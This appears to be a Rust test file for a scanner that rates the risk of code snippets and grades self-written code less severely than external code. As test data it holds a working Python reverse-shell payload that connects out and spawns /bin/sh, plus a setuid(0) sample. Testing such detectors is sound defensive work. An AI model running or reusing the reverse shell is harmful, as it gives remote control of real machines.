//! Origin handling: self-written code downgrades behaviour but not privileged access.

use super::*;

const REVERSE_SHELL: &str = "import socket, os, pty\ns = socket.socket()\ns.connect(('h', 1))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n";

#[test]
fn self_written_behaviour_is_downgraded() {
    // A reverse shell the assistant wrote itself is HIGH, not BLOCKED.
    let external = assess(REVERSE_SHELL, Origin::External);
    let own = assess(REVERSE_SHELL, Origin::SelfWritten);
    assert_eq!(external.level, Level::Blocked);
    assert_eq!(own.level, Level::High);
    assert!(own.score < external.score);
}

#[test]
fn self_written_privileged_access_is_kept() {
    // setuid stays HIGH whoever wrote it; network access drops to LOW for self.
    let own = assess("import os\nos.setuid(0)\n", Origin::SelfWritten);
    assert_eq!(own.level, Level::High);
    let own = assess("import requests\nrequests.get(u)\n", Origin::SelfWritten);
    assert_eq!(own.level, Level::Low);
}
